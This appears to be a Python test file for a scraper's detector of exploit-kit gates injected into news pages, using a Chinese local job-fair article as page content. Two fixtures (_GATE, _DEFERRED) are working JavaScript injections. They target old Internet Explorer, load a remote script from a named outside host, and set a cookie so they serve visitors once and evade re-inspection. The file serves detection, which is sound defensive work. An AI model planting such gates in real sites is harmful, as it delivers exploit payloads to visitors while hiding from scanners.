"""An exploit kit's gate serves each visitor once (v43 analysis §1 B3, §7 item 2b): for old Internet
Explorer without its cookie it loads its code and marks the browser, and loads nothing on the next
visit, so the host it spells plainly in its own code names nothing. A site's own IE branch (a
polyfill) loads on every visit of old IE, whatever cookies the page sets, and stays clean."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.sandbox import run_scripts

URL = "http://news.linhai-daily.com/content/2024-03/02/content_1858.htm"

BODY = ("<p>3月2日，新区“春风行动”招聘会在文化广场举行，共有120余家企业进场招聘，提供岗位3000多个。</p>"
        "<p>据悉，本次活动共举办36场公益招聘会，覆盖制造、物流、商贸等行业，预计节后迎来求职高峰。</p>"
        "<p>现场还设置政策咨询台，为求职者解答社保、就业补贴等方面的问题。</p>")


def _page(head: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>新区春风行动招聘会举行_临海新闻网</title>'
            f'{head}</head><body><header><a href="/">临海新闻网</a><nav><a href="/">首页</a><a href="/news/">本地</a>'
            '</nav></header><article><h1>新区春风行动招聘会举行</h1><div class="info">2024-03-02 来源：临海新闻网</div>'
            f'<div id="content">{BODY}</div></article><footer><p>临海新闻网 版权所有</p></footer></body></html>').encode()


# the gate's host is a plain literal; it marks the browser with its cookie as it loads
_GATE = ("<script>function seen(){return document.cookie.indexOf('uid7F2=30')>=0}"
         "if(/MSIE|Trident/.test(navigator.userAgent)&&!seen()){document.cookie='uid7F2=30; path=/';"
         "var s=document.createElement('script');s.src='http://sc.quillbarrow.com/aaviewforumba.php';"
         "document.getElementsByTagName('head')[0].appendChild(s);}</script>")

# rc43b-004's form: the cookie is written once the loaded script is there (its onload), after a
# read of the global that script defines
_DEFERRED = ("<script>function seen(){return document.cookie.indexOf('uid7F2=30')>=0}"
             "function mark(){document.cookie='uid7F2=30; path=/'}"
             "function after(){try{if(remote_cfg.length==0){mark();return;}}catch(e){setTimeout('after()',300);}}"
             "if(/MSIE|Trident/.test(navigator.userAgent)&&!seen()){var s=document.createElement('script');"
             "s.onload=function(){after();};s.src='http://sc.quillbarrow.com/aaviewforumba.php';"
             "document.getElementsByTagName('head')[0].appendChild(s);}</script>")

# a site's IE polyfill, loaded on every IE visit, on a page that also remembers its visitors
_POLYFILL = ("<script>document.cookie='visited=1; path=/';"
             "if(/MSIE|Trident/.test(navigator.userAgent)){var s=document.createElement('script');"
             "s.src='https://cdn.jsdelivr.net/npm/html5shiv@3.7.3/dist/html5shiv.min.js';"
             "document.getElementsByTagName('head')[0].appendChild(s);}</script>")


def test_an_old_ie_gate_that_loads_once_is_spam_though_its_code_spells_the_host():
    a = clean_page(_page(_GATE), url=URL)
    assert a.hijacked and any("quillbarrow.com" in f.evidence and "first visit" in f.where for f in a.findings)
    assert "公益招聘会" in a.text


def test_the_ie_visitor_comes_back_with_the_gates_cookie():
    run = run_scripts([(0, _GATE[8:-9])], URL)
    assert [e.value for e in run.old_ie if e.kind == "load"] == ["http://sc.quillbarrow.com/aaviewforumba.php"]
    assert run.old_ie_again is not None and not [e for e in run.old_ie_again if e.kind == "load"]


def test_a_gate_marking_the_visitor_after_its_script_loads_is_spam():
    # its cookie is never written in the run (ie37's stub of `remote_cfg` was reverted: it drove a
    # clean page's search widget into a click redirect, wb26-0307), so the second visit cannot tell;
    # what it loads for old IE only is a server program of a site the page names nowhere else (ld44)
    a = clean_page(_page(_DEFERRED), url=URL)
    assert a.hijacked and any("quillbarrow.com" in f.evidence for f in a.findings)


def test_a_polyfill_loaded_on_every_ie_visit_is_clean():
    run = run_scripts([(0, _POLYFILL[8:-9])], URL)
    assert run.old_ie_again is not None and [e for e in run.old_ie_again if e.kind == "load"]
    assert not clean_page(_page(_POLYFILL), url=URL).hijacked


def test_a_page_writing_no_cookie_gets_no_second_ie_visit():
    code = _POLYFILL[8:-9].replace("document.cookie='visited=1; path=/';", "")
    assert run_scripts([(0, code)], URL).old_ie_again is None


def test_a_helper_another_file_defines_is_not_taken_for_true():
    # `isIe6` lives in the site's own script file: a stub standing in for it would be truthy and
    # show every visitor the upgrade notice for IE 6 (a hidden box linking to microsoft.com; the
    # variant's first, wider form flagged inputs-gne zyyfy_1 so)
    notice = ("<script>$(function(){if(isIe6()){$('#content').prepend(\"<div class='ie6' style='display:none;'>"
              "<span>关闭</span>本站不再支持您的浏览器，请升级到 <a href='http://www.microsoft.com/zh-cn/download/"
              "internet-explorer-8-details.aspx'>更高的版本</a></div>\");}});</script>")
    assert not clean_page(_page(notice), url=URL).hijacked
